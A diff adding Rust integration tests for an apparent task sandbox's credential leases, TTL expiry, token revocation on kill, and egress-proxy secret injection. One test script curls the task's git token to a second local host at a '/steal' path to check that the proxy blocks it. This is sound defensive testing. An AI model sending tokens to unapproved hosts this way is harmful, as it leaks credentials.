@@ -441,3 +441,222 @@ fn leases_of_a_crashed_supervisor_are_revoked_by_the_next() {
         .to_string();
     assert!(refused.contains("recovered_after_crash"), "{refused}");
 }
+
+/// Start `remit run` with `remit_text` running `script`; wait for its first line.
+fn start_task(w: &World, remit_text: &str, script: &str) -> (std::process::Child, String) {
+    let remit_file = w.remit(remit_text);
+    let mut child = w
+        .command()
+        .args(["run", "--quiet", "--remit"])
+        .arg(&remit_file)
+        .args(["--", "bash", "-c", script])
+        .stdout(Stdio::piped())
+        .spawn()
+        .unwrap();
+    let mut stdout = child.stdout.take().unwrap();
+    let mut buf = [0u8; 6];
+    std::io::Read::read_exact(&mut stdout, &mut buf).unwrap();
+    assert_eq!(&buf, b"ready\n");
+    let list: Vec<serde_json::Value> =
+        serde_json::from_str(&ok(&remit(w, &["task", "list", "--json"]))).unwrap();
+    let task = list[0]["task"].as_str().unwrap().to_owned();
+    (child, task)
+}
+
+fn git_verdict(w: &World, token: &str) -> Result<(), String> {
+    let vault = Arc::new(Vault::open_home(&w.state, Arc::new(SystemClock)).unwrap());
+    remit_vault::backend::git::GitTokenVerifier::new(vault)
+        .verify(
+            token,
+            "https://git.example.test/acme/widgets.git",
+            remit_vault::backend::git::GitAccess::Fetch,
+        )
+        .map(|_| ())
+        .map_err(|e| e.to_string())
+}
+
+/// `remit task kill` takes the task's leases and token with it, at once.
+#[test]
+fn killing_a_task_revokes_its_leases_and_token() {
+    let w = World::new();
+    let (child, task) = start_task(
+        &w,
+        GIT_GRANT,
+        "printf %s \"$WIDGETS_GIT_TOKEN\" > git.tok; cp \"$REMIT_IDENTITY_TOKEN_FILE\" token.jwt; echo ready; sleep 60",
+    );
+    let git_token = std::fs::read_to_string(w.ws.join("git.tok")).unwrap();
+    let token = std::fs::read_to_string(w.ws.join("token.jwt")).unwrap();
+    git_verdict(&w, &git_token).expect("valid while the task runs");
+    ok(&remit_with_stdin(
+        &w,
+        &["identity", "verify", "-"],
+        token.as_bytes(),
+    ));
+
+    ok(&remit(&w, &["task", "kill", &task, "--reason", "runaway"]));
+    let out = child.wait_with_output().unwrap();
+    assert_ne!(out.status.code(), Some(0));
+    let refused = git_verdict(&w, &git_token).unwrap_err();
+    assert!(refused.contains("killed"), "{refused}");
+    let online = remit_with_stdin(&w, &["identity", "verify", "-"], token.as_bytes());
+    assert_eq!(online.status.code(), Some(1), "{}", show(&online));
+    let all = events(&w);
+    let revoked = serde_json::to_string(&of_kind(&all, "credential_revoked")).unwrap();
+    assert!(revoked.contains("\"killed\""), "{revoked}");
+}
+
+/// A lease ends at its TTL while its task still runs.
+#[test]
+fn a_lease_ends_at_its_ttl_while_the_task_runs() {
+    let w = World::new();
+    let (child, _task) = start_task(
+        &w,
+        &format!("[credentials]\nttl = \"2s\"\n{GIT_GRANT}"),
+        "printf %s \"$WIDGETS_GIT_TOKEN\" > git.tok; echo ready; sleep 60",
+    );
+    let git_token = std::fs::read_to_string(w.ws.join("git.tok")).unwrap();
+    git_verdict(&w, &git_token).expect("valid before its TTL");
+    let started = std::time::Instant::now();
+    let refused = loop {
+        match git_verdict(&w, &git_token) {
+            Err(why) => break why,
+            Ok(()) => {
+                assert!(
+                    started.elapsed() < Duration::from_secs(30),
+                    "the lease outlived its TTL"
+                );
+                std::thread::sleep(Duration::from_millis(200));
+            }
+        }
+    };
+    assert!(refused.contains("expired"), "{refused}");
+    // The task itself runs on.
+    let list = ok(&remit(&w, &["task", "list", "--json"]));
+    assert!(list.contains("\"task\""), "{list}");
+    kill_child(child);
+    let all = events(&w);
+    let revoked = serde_json::to_string(&of_kind(&all, "credential_revoked")).unwrap();
+    assert!(revoked.contains("\"expired\""), "{revoked}");
+}
+
+fn kill_child(mut child: std::process::Child) {
+    let pid = child.id().to_string();
+    let _ = std::process::Command::new("kill")
+        .args(["-TERM", &pid])
+        .status();
+    let _ = child.wait();
+}
+
+/// A vault secret injected by the egress proxy into a `remit run` task: the origin gets the
+/// real value, the task only a phantom; once the lease's TTL passes, the proxy refuses to
+/// inject it and says why.
+#[test]
+fn a_vault_secret_is_injected_until_its_lease_expires() {
+    let w = World::new();
+    let real = "sk-vault-value-0123456789abcdef";
+    ok(&remit_with_stdin(
+        &w,
+        &["secret", "set", "echo-key"],
+        format!("{real}\n").as_bytes(),
+    ));
+    let server = crate::code_support::Server::echo();
+    let port = server.port;
+    let remit_text = format!(
+        r#"
+[credentials]
+ttl = "3s"
+
+[network]
+allow = ["127.0.0.2:{port}"]
+private = ["127.0.0.2"]
+
+[[network.credential]]
+name = "echo"
+env = "ECHO_KEY"
+from = {{ vault = "echo-key" }}
+inject = {{ hosts = ["127.0.0.2:{port}"], header = "x-api-key" }}
+"#
+    );
+    let (child, _task) = start_task(
+        &w,
+        &remit_text,
+        &format!(
+            r#"printf %s "$ECHO_KEY" > phantom.txt
+curl -sS -H "x-api-key: $ECHO_KEY" -o first.txt -w '%{{http_code}}' http://127.0.0.2:{port}/one > first.code
+echo ready
+sleep 4
+curl -sS -H "x-api-key: $ECHO_KEY" -o second.txt -w '%{{http_code}}' http://127.0.0.2:{port}/two > second.code
+touch done
+sleep 60"#
+        ),
+    );
+    let started = std::time::Instant::now();
+    while !w.ws.join("done").exists() {
+        assert!(
+            started.elapsed() < Duration::from_secs(30),
+            "no second request"
+        );
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    kill_child(child);
+    let read = |f: &str| std::fs::read_to_string(w.ws.join(f)).unwrap();
+    let phantom = read("phantom.txt");
+    assert!(!phantom.is_empty() && phantom != real, "{phantom}");
+    assert_eq!(read("first.code"), "200", "{}", read("first.txt"));
+    let seen = server.seen.lock().unwrap();
+    assert_eq!(seen.len(), 1, "the second request never reached the origin");
+    assert_eq!(seen[0].header("x-api-key"), Some(real));
+    assert_eq!(read("second.code"), "403");
+    let refusal = read("second.txt");
+    assert!(refusal.contains("expired"), "{refusal}");
+    assert!(files_contain(&w, real.as_bytes()).is_none());
+}
+
+/// A git lease's token travels through the egress proxy to its repository's host only, and
+/// the task's output never shows it.
+#[test]
+fn a_git_token_goes_to_its_repository_host_only() {
+    let w = World::new();
+    let server = crate::code_support::Server::echo();
+    let port = server.port;
+    let remit_text = format!(
+        r#"
+[network]
+allow = ["127.0.0.2:{port}", "127.0.0.3:{port}"]
+private = ["127.0.0.2", "127.0.0.3"]
+
+[credentials.git.widgets]
+repository = "http://127.0.0.2:{port}/acme/widgets.git"
+"#
+    );
+    let out = w.run(
+        Some(&remit_text),
+        &format!(
+            r#"printf %s "$WIDGETS_GIT_TOKEN" > git.tok
+curl -sS -H "authorization: Bearer $WIDGETS_GIT_TOKEN" -o /dev/null -w '%{{http_code}}\n' http://127.0.0.2:{port}/acme/widgets.git/info/refs
+curl -sS -H "authorization: Bearer $WIDGETS_GIT_TOKEN" -w '\n%{{http_code}}\n' http://127.0.0.3:{port}/steal
+echo "token: $WIDGETS_GIT_TOKEN""#
+        ),
+    );
+    let printed = ok(&out);
+    let token = std::fs::read_to_string(w.ws.join("git.tok")).unwrap();
+    assert!(token.starts_with("rgt_"), "{token}");
+    let lines: Vec<&str> = printed.lines().collect();
+    assert_eq!(lines[0], "200", "{printed}");
+    assert!(printed.contains("\n403\n"), "{printed}");
+    assert!(
+        printed.contains("may be sent only to `127.0.0.2"),
+        "{printed}"
+    );
+    assert!(!printed.contains(&token), "{printed}");
+    assert!(
+        printed.contains("token: [REDACTED:known-secret]"),
+        "{printed}"
+    );
+    let seen = server.seen.lock().unwrap();
+    assert_eq!(seen.len(), 1);
+    assert_eq!(
+        seen[0].header("authorization"),
+        Some(format!("Bearer {token}").as_str())
+    );
+}
